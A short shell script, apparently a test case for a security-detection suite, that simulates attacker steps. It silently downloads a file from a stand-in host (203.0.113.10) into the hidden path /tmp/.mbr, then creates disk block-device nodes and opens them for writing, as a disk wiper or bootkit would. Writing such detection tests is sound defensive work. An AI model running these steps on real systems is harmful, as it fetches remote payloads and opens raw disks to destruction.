#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/.mbr http://203.0.113.10/programs/marker
cat >/tmp/b.pl <<'END'
use Fcntl; my $tried = 0;
for my $d ([8, 0], [8, 16], [254, 0], [253, 0], [259, 0]) {
    my $p = "/var/tmp/.d$tried"; system("mknod", $p, "b", @$d) == 0 or die; $tried++;
    if (sysopen(my $f, $p, O_RDWR | O_DIRECT)) { close $f }
    if (sysopen(my $f, $p, O_WRONLY)) { close $f }
    unlink $p;
}
die if $tried < 5;
END
perl /tmp/b.pl
took_place
